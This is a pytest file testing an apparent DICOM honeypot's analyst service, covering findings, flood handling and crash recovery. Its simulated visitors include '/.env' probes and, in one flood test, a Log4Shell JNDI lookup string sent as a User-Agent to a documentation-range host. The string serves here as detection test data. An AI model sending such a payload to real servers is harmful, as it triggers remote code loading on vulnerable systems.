"""The analyst at work: the same findings from the same journal, however and however often they are made."""

from __future__ import annotations

import itertools
import json
import os
import random
import shutil
import signal
import subprocess
import time
from collections import Counter
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import Engine, func, select

from dicomhawk.analyst import flood, reading, writing
from dicomhawk.analyst import service as service_module
from dicomhawk.analyst.database import search
from dicomhawk.analyst.database.schema import ae_titles, metadata, origins, sessions, techniques
from dicomhawk.analyst.database.store import open_database
from dicomhawk.analyst.service import Service
from dicomhawk.evidence.place import read_place
from dicomhawk.settings import Settings
from tests.analyst.journals import Sensor, echo, lines
from tests.analyst.postgres import Server, postgres
from tests.support import COMMAND, clean_environment, wait_until

NOT_FINDINGS = {"places", "lookups", "meta"}
NOT_COMPARED = {"seq", "examined", "stale", "state", "because", "until"}
"""When the analyst did it, not what it found."""


def findings(engine: Engine) -> dict[str, list[str]]:
    """All tables of findings, as text in an order that says nothing."""
    with engine.connect() as connection:
        return {
            table.name: sorted(
                json.dumps({k: v for k, v in row.items() if k not in NOT_COMPARED}, sort_keys=True, default=str)
                for row in connection.execute(select(table)).mappings()
            )
            for table in metadata.sorted_tables
            if table.name not in NOT_FINDINGS
        }


def find(*, level: str = "STUDY", name: str = "*", matches: int = 300) -> tuple[dict[str, Any], ...]:
    return (
        {"action": "dicom.association", "dicom__ae__called": "ARCHIVE", "dicom__ae__calling": "FINDSCU"},
        {"action": "dicom.c-find", "dicom__query": {"level": level, "keys": {"00100010": name}, "wildcard": True}},
        {"action": "dicom.c-find.end", "dicom__query": {"matches": matches}, "dicom__status": "0x0000"},
    )


def page(path: str, agent: str = "curl/8.5.0") -> tuple[dict[str, Any], ...]:
    return (
        {
            "action": "http.request",
            "url__path": path,
            "url__original": path,
            "http__request": {"method": "GET", "headers": [f"User-Agent: {agent}"]},
            "user_agent__original": agent,
        },
        {"action": "http.response", "http__response": {"status_code": 404}},
    )


def a_month(seed: int, connections: int, sensor: str = "sensor-a") -> Sensor:
    """Some visitors, each with its own ways."""
    chance = random.Random(seed)
    told = Sensor(sensor)
    ways: dict[str, Callable[[], tuple[dict[str, Any], ...]]] = {
        "162.142.125.9": echo,
        "71.6.158.166": echo,
        "198.51.100.7": find,
        "198.51.100.8": lambda: echo(called=chance.choice(["PACS", "ORTHANC", "ANY-SCP", "DCM4CHEE", "STORESCP"])),
        "203.0.113.5": lambda: page(chance.choice(["/", "/.env", "/admin", "/login"])),
        "203.0.113.6": lambda: page("/", chance.choice(["curl/8.5.0", "Mozilla/5.0 zgrab/0.x", "CensysInspect/1.1"])),
        "2001:db8::5": lambda: (),
    }
    for _ in range(connections):
        address = chance.choice(list(ways))
        told.connection(address, *ways[address]())
        told.now += chance.randrange(1, 900) * 1_000_000
    return told


def analysed(folder: Path, url: str) -> Engine:
    engine = open_database(url)
    service = Service(Settings(data=folder), engine, [folder / "journal"])
    try:
        service.once()
    finally:
        service.close()
    return engine


@pytest.fixture
def url(tmp_path: Path) -> str:
    return f"sqlite:///{tmp_path / 'findings.sqlite'}"


def test_counts_are_those_of_the_journal(tmp_path: Path, url: str) -> None:
    told = a_month(1, 150)
    told.write(tmp_path / "journal")
    engine = analysed(tmp_path, url)
    seen = Counter(event["source"]["ip"] for event in told.events if event["event"]["action"] == "connection.open")
    with engine.connect() as connection:
        rows = connection.execute(select(sessions)).mappings().all()
        known = {row.address: row for row in connection.execute(select(origins))}
    counted: Counter[str] = Counter()
    for row in rows:
        counted[row["address"]] += row["connections"]
        of_session = [event for event in told.events if event["session"] == row["session"]]
        assert row["events"] == len(of_session)
        assert row["matches"] == sum(e.get("dicom", {}).get("query", {}).get("matches", 0) for e in of_session)
        assert row["bytes_in"] == sum(e["source"].get("bytes", 0) for e in of_session)
        assert not row["stale"] and row["verdict"].endswith(".")
    assert counted == seen
    assert known["162.142.125.9"].category == "Censys"
    assert known["71.6.158.166"].category == "Shodan"
    depths = {row["address"]: row["depth"] for row in rows}
    assert (depths["162.142.125.9"], depths["198.51.100.7"], depths["2001:db8::5"]) == ("scan", "collection", "touch")
    assert {row["interaction"] for row in rows if row["address"] == "198.51.100.7"} == {True}
    assert {row["interaction"] for row in rows if row["address"] == "162.142.125.9"} == {False}


@pytest.mark.parametrize(("seed", "writers"), [(1, 1), (2, 4)])
def test_the_same_findings_from_any_number_of_pieces(
    tmp_path_factory: pytest.TempPathFactory, seed: int, writers: int
) -> None:
    told = a_month(3, 60)
    whole, pieces = tmp_path_factory.mktemp("whole"), tmp_path_factory.mktemp("pieces")
    told.write(whole / "journal")
    wanted = findings(analysed(whole, f"sqlite:///{whole / 'f.sqlite'}"))

    chance = random.Random(seed)
    (pieces / "journal").mkdir()
    paths = [pieces / "journal" / f"2026-03-02.w{at}.0001.ndjson" for at in range(writers)]
    events = list(lines(told.events))
    engine = open_database(f"sqlite:///{pieces / 'f.sqlite'}")
    service = Service(Settings(data=pieces), engine, [pieces / "journal"])
    while events:
        some = chance.randrange(1, 60)
        for line in events[:some]:
            with chance.choice(paths).open("ab") as file:
                file.write(line)
        events = events[some:]
        service.once()
    service.close()
    assert findings(engine) == wanted


def test_several_sensors_in_one_database(tmp_path: Path, url: str) -> None:
    a_month(1, 40, "one").write(tmp_path / "journal")
    a_month(2, 40, "two").write(tmp_path / "other" / "journal")
    engine = open_database(url)
    service = Service(Settings(data=tmp_path), engine, [tmp_path / "journal", tmp_path / "other" / "journal"])
    service.once()
    service.close()
    with engine.connect() as connection:
        assert set(connection.execute(select(sessions.c.sensor)).scalars()) == {"one", "two"}
        (actor,) = set(
            connection.execute(select(sessions.c.actor).where(sessions.c.address == "162.142.125.9")).scalars()
        )
        assert actor


def test_the_sensor_is_told_how_far_its_journal_was_read(tmp_path: Path, url: str) -> None:
    journal = a_month(1, 20).write(tmp_path / "journal")
    analysed(tmp_path, url)
    assert read_place(tmp_path) == {path.name: path.stat().st_size for path in journal.iterdir()}


def test_what_a_visitor_said_can_be_searched_for(tmp_path: Path, url: str) -> None:
    a_month(1, 60).write(tmp_path / "journal")
    engine = analysed(tmp_path, url)
    with engine.connect() as connection:
        wanted = search.matching(connection, "censysinspect")
        assert wanted is not None
        found = connection.execute(select(sessions.c.address).where(sessions.c.session.in_(wanted))).scalars()
        assert set(found) == {"203.0.113.6"}
        assert search.matching(connection, " '\"* ") is None


@pytest.fixture(scope="module")
def server() -> Iterator[Server]:
    with postgres() as running:
        yield running


def test_the_same_findings_on_postgresql(tmp_path: Path, url: str, server: Server) -> None:
    told = a_month(5, 120)
    told.emit("dicom.association", "198.51.100.9", dicom__ae__called="NUL\0L", dicom__ae__calling="\ud800")
    told.write(tmp_path / "journal")
    assert findings(analysed(tmp_path, server.url())) == findings(analysed(tmp_path, url))


def test_a_session_that_can_not_be_analysed_keeps_nobody_waiting(
    tmp_path: Path, url: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    a_month(1, 60).write(tmp_path / "journal")
    real = writing.analyse

    def fails(events: Any, *more: Any) -> Any:
        if events[0]["source"]["ip"] == "198.51.100.7":
            raise ZeroDivisionError
        return real(events, *more)

    monkeypatch.setattr(writing, "analyse", fails)
    engine = analysed(tmp_path, url)
    with engine.connect() as connection:
        rows = {row.address: row for row in connection.execute(select(sessions))}
    assert rows["198.51.100.7"].verdict == writing.NOT_ANALYSED
    assert rows["162.142.125.9"].depth == "scan"
    assert not any(row.stale for row in rows.values())
    assert "ZeroDivisionError" in capsys.readouterr().err


def test_nobody_hides_behind_a_flood(tmp_path: Path, url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    for module, name in ((writing, "MAX_EVENTS"), (flood, "BEGINNING"), (flood, "PART"), (flood, "OF_A_KIND")):
        monkeypatch.setattr(module, name, 50)
    told = Sensor()
    for called in ("A", "B"):
        told.connection("203.0.113.9", *echo(called) * 60)
    told.connection("203.0.113.9", *find(matches=5000))
    told.connection("203.0.113.9", *page("/", "${jndi:ldap://198.51.100.1/a}"))
    told.connection("203.0.113.9", *echo("A") * 60)
    told.write(tmp_path / "journal")
    engine = analysed(tmp_path, url)
    with engine.connect() as connection:
        (row,) = connection.execute(select(sessions)).all()
        met = {each.rule: each for each in connection.execute(select(techniques))}
        titles = {each.called: each for each in connection.execute(select(ae_titles))}
    assert (row.depth, row.events, row.connections) == ("collection", len(told.events), 5)
    assert json.loads(row.commands)["c-echo"] == 180
    assert row.severity >= 3
    assert {"D04", "D08", "D19"} <= met.keys()
    assert met["D04"].times > 50
    assert (titles["A"].accepted, titles["B"].accepted) == (120, 60)


def test_a_flood_that_does_not_end_keeps_nothing_from_being_analysed(
    tmp_path: Path, url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(reading, "BATCH_LINES", 5)
    told = Sensor()
    told.connection("203.0.113.9", *find())
    told.connection("198.51.100.7", *echo() * 100)
    told.write(tmp_path / "journal", writers=1)
    engine = open_database(url)
    turn = itertools.count()
    settings = Settings(data=tmp_path)
    service = Service(settings, engine, [tmp_path / "journal"], clock=lambda: float(next(turn)))
    try:
        service.follow(lambda _: next(turn) < 60)
        assert service._journals[0].behind(engine) > 0
        with engine.connect() as connection:
            depth = connection.execute(select(sessions.c.depth).where(sessions.c.address == "203.0.113.9")).scalar()
    finally:
        service.close()
        engine.dispose()
    assert depth == "collection"


def test_what_is_serious_waits_for_no_crowd(tmp_path: Path, url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(service_module, "GROUP", 4)
    told = Sensor()
    for number in range(40):
        told.connection(f"198.51.100.{number}", *echo())
    told.connection("203.0.113.9", *find())
    for event in told.events[-3:]:
        event["event"]["severity"] = reading.SERIOUS
    told.write(tmp_path / "journal", writers=1)
    engine = open_database(url)
    service = Service(Settings(data=tmp_path), engine, [tmp_path / "journal"])
    try:
        service.follow(lambda _: False)
        with engine.connect() as connection:
            depths = {row.address: row.depth for row in connection.execute(select(sessions))}
            waiting = connection.execute(select(func.count()).where(sessions.c.stale)).scalar()
    finally:
        service.close()
        engine.dispose()
    assert depths["203.0.113.9"] == "collection"
    assert waiting == 37


@pytest.fixture
def following(tmp_path: Path) -> Iterator[Callable[[str], subprocess.Popen[bytes]]]:
    """``dicomhawk analyse --follow``, as a process."""
    started: list[subprocess.Popen[bytes]] = []

    def start(database: str) -> subprocess.Popen[bytes]:
        environment = clean_environment({"DICOMHAWK_ANALYST__DATABASE": database})
        command = [*COMMAND, "analyse", "--follow", "--data", str(tmp_path)]
        process = subprocess.Popen(command, env=environment, stdin=subprocess.DEVNULL, stderr=subprocess.PIPE)
        started.append(process)
        return process

    yield start
    for process in started:
        process.kill()
        process.communicate()


def grow(folder: Path, told: Sensor, kill: Callable[[int], None]) -> None:
    """Write the journal piece by piece; `kill` is called between the pieces."""
    (folder / "journal").mkdir(exist_ok=True)
    whole = list(lines(told.events))
    step = len(whole) // 3 + 1
    for number, start in enumerate(range(0, len(whole), step)):
        for writer in range(2):
            with (folder / "journal" / f"2026-03-02.w{writer}.0001.ndjson").open("ab") as file:
                file.writelines(whole[start : start + step][writer::2])
        kill(number)


def test_killed_at_any_moment_it_comes_to_the_same_findings(
    tmp_path: Path, url: str, following: Callable[[str], subprocess.Popen[bytes]]
) -> None:
    told = a_month(7, 400)
    chance = random.Random(11)
    running = following(url)

    def kill(number: int) -> None:
        nonlocal running
        time.sleep(chance.uniform(0.2, 2.5))
        os.kill(running.pid, signal.SIGKILL)
        running.wait()
        running = following(url)

    grow(tmp_path, told, kill)
    clean = tmp_path / "clean"
    shutil.copytree(tmp_path / "journal", clean / "journal")
    wanted = findings(analysed(clean, f"sqlite:///{clean / 'f.sqlite'}"))
    wait_until(lambda: caught_up(url, len(told.events)), "findings", 60)
    running.send_signal(signal.SIGTERM)
    assert running.wait(30) == 0
    assert findings(analysed(tmp_path, url)) == wanted


def test_a_database_that_goes_away_for_a_while(
    tmp_path: Path, server: Server, following: Callable[[str], subprocess.Popen[bytes]]
) -> None:
    told = a_month(9, 300)
    database = server.url()
    following(database)

    def crash(number: int) -> None:
        if number in (0, 1):
            server.stop("immediate")
            time.sleep(0.5)
            server.start()

    grow(tmp_path, told, crash)
    wait_until(lambda: caught_up(database, len(told.events)), "findings", 60)
    assert not (set(Counter(findings(open_database(database))["events"]).values()) - {1})


def caught_up(url: str, events: int) -> bool:
    """Whether all events are in the database, and no session is stale."""
    engine = open_database(url)
    try:
        found = findings(engine)
        with engine.connect() as connection:
            return len(found["events"]) == events and not any(connection.execute(select(sessions.c.stale)).scalars())
    finally:
        engine.dispose()
